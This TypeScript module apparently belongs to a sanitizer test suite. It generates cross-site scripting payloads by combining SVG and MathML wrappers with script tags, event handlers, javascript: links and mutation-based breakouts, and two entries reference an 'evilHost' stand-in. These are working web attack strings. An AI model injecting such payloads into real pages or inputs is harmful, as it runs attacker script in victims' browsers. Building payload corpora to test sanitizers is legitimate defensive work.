import { type Attack, evilHost, pair } from '../payload.ts'

const svgContents: readonly Attack[] = [
  code => `<script>${code}</script>`,
  code => `<script href="data:text/javascript,${code}" />`,
  code => `<animate onbegin=${code} attributeName=x dur=1s>`,
  code => `<set onbegin=${code} attributeName=x to=1>`,
  code => `<animateTransform onbegin=${code} attributeName=transform>`,
  code => `<a href="javascript:${code}"><text y=20>x</text></a>`,
  code => `<a xlink:href="javascript:${code}"><rect width=9 height=9></rect></a>`,
  code => `<a><animate attributeName=href values="javascript:${code}" /><text y=20>x</text></a>`,
  code => `<a><set attributeName=xlink:href to="javascript:${code}" /><text y=20>x</text></a>`,
  code => `<image href=x onerror=${code}>`,
  code => `<image xlink:href=x onerror=${code} />`,
  code => `<foreignObject><img src=x onerror=${code}></foreignObject>`,
  code => `<foreignObject><iframe srcdoc="<script>${code}</script>"></iframe></foreignObject>`,
  code => `<desc><img src=x onerror=${code}></desc>`,
  code => `<title><img src=x onerror=${code}></title>`,
  code => `<style><img src=x onerror=${code}></style>`,
  code => `<use href="data:image/svg+xml,<svg id=x><script>${code}</script></svg>#x">`,
  code => `<handler type="text/javascript">${code}</handler>`,
  code => `<g onload=${code}></g>`,
  code => `<rect width=9 height=9 onclick=${code}></rect>`,
  code => `<discard onbegin=${code}>`,
  () => `<feImage href="${evilHost}/fe.png" />`,
  code => `<![CDATA[><img src=x onerror=${code}>]]>`,
  code => `<p><style><g title="</style><img src=x onerror=${code}>">`,
]

const svgOpenings = [
  '<svg>',
  '<SVG/x>',
  '<svg xmlns="http://www.w3.org/2000/svg">',
  '<svg><g>',
  '<math></math><svg>',
]

const mathContents: readonly Attack[] = [
  code => `<mtext><img src=x onerror=${code}></mtext>`,
  code => `<mi href="javascript:${code}">x</mi>`,
  code => `<mi xlink:href="javascript:${code}">x</mi>`,
  code => `<mtext><table><mglyph><style><img src=x onerror=${code}></style>`,
  code => `<mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  code => `<annotation-xml encoding="text/html"><img src=x onerror=${code}></annotation-xml>`,
  code => `<annotation-xml><svg><img src=x onerror=${code}></svg></annotation-xml>`,
  code => `<mi onclick=${code}>x</mi>`,
  code => `<maction actiontype="statusline#${evilHost}" xlink:href="javascript:${code}">x</maction>`,
  code => `<ms><style><p title="</style><img src=x onerror=${code}>">`,
]

const mathOpenings = [
  '<math>',
  '<math href="javascript:0">',
  '<MATH xmlns="http://www.w3.org/1998/Math/MathML">',
  '<math><mrow>',
]

const close = (opening: string) => opening.replaceAll(/<(\w+)[^>]*>/g, '</$1>')

export const svg: readonly Attack[] = pair(
  svgOpenings,
  svgContents,
  (opening, content): Attack =>
    (code, sign) =>
      opening + content(code, sign) + close(opening),
)

export const mathMl: readonly Attack[] = pair(
  mathOpenings,
  mathContents,
  (opening, content): Attack =>
    (code, sign) =>
      opening + content(code, sign) + close(opening),
)
